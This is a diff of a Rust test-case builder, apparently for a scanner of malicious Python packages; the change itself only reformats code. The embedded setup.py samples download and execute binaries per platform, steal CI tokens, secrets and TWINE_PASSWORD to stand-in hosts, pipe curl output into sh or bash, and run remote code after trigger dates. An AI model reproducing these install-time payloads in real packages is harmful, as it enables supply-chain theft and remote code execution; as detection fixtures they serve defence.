@@ -47,7 +47,10 @@ fn codecs(cases: &mut Cases) {
 fn gates(cases: &mut Cases) {
     cases
         .technique(18, "one-download-per-platform", Build)
-        .case("if-chain", setup(r#"
+        .case(
+            "if-chain",
+            setup(
+                r#"
 import os, sys, stat, subprocess, tempfile
 import urllib.request
 from setuptools import setup, find_packages
@@ -64,8 +67,13 @@ urllib.request.urlretrieve(base + name, path)
 os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
 subprocess.Popen([path])
 «setup»
-"#))
-        .case("dictionary", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "dictionary",
+            setup(
+                r#"
 import platform, os, requests
 from setuptools import setup, find_packages
 
@@ -80,8 +88,13 @@ with open(target, "wb") as out:
 os.chmod(target, 0o755)
 os.system(target)
 «setup»
-"#))
-        .case("match", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "match",
+            setup(
+                r#"
 import os, sys, urllib.request as request
 from setuptools import setup, find_packages
 
@@ -99,10 +112,15 @@ match sys.platform:
     case _:
         fetch("u", lambda n: os.execv("./" + n, [n]) if os.fork() == 0 else None)
 «setup»
-"#));
+"#,
+            ),
+        );
     cases
         .technique(19, "only-in-ci", Build)
-        .case("github-actions", setup(r#"
+        .case(
+            "github-actions",
+            setup(
+                r#"
 import os
 from setuptools import setup, find_packages
 if os.getenv("GITHUB_ACTIONS") == "true":
@@ -110,15 +128,25 @@ if os.getenv("GITHUB_ACTIONS") == "true":
     tokens = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}
     urllib.request.urlopen("https://collect.example.invalid/gh", json.dumps(tokens).encode())
 «setup»
-"#))
-        .case("not-in-ci", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "not-in-ci",
+            setup(
+                r#"
 import os, subprocess
 from setuptools import setup, find_packages
 if not any(name in os.environ for name in ("CI", "TRAVIS", "GITLAB_CI")):
     subprocess.Popen("curl -s 192.0.2.15/x | sh", shell=True)
 «setup»
-"#))
-        .case("gitlab-job-token", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "gitlab-job-token",
+            setup(
+                r#"
 from os import environ as env
 from setuptools import setup, find_packages
 if {"GITLAB_CI", "CI_JOB_TOKEN"} <= set(env):
@@ -126,25 +154,40 @@ if {"GITLAB_CI", "CI_JOB_TOKEN"} <= set(env):
     c = http.client.HTTPConnection("192.0.2.16", 8000)
     c.request("POST", "/", env["CI_JOB_TOKEN"] + "|" + env.get("TWINE_PASSWORD", ""))
 «setup»
-"#));
+"#,
+            ),
+        );
     cases
         .technique(20, "time-bomb", Build)
-        .case("datetime", setup(r#"
+        .case(
+            "datetime",
+            setup(
+                r#"
 import datetime
 from setuptools import setup, find_packages
 if datetime.datetime.now() > datetime.datetime(2026, 3, 1):
     import urllib.request
     exec(urllib.request.urlopen("http://stage.example.invalid/late").read())
 «setup»
-"#))
-        .case("epoch", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "epoch",
+            setup(
+                r#"
 import time, os
 from setuptools import setup, find_packages
 if time.time() >= 1772323200:
     os.system("curl http://192.0.2.30/t | bash")
 «setup»
-"#))
-        .case("weekday", setup(r#"
+"#,
+            ),
+        )
+        .case(
+            "weekday",
+            setup(
+                r#"
 from datetime import date
 from setuptools import setup, find_packages
 import base64
@@ -152,5 +195,7 @@ today = date.today()
 if today.weekday() in (5, 6) and today.isoformat() > "2026-01-01":
     exec(base64.b64decode("«fetch|b64»"))
 «setup»
-"#));
+"#,
+            ),
+        );
 }
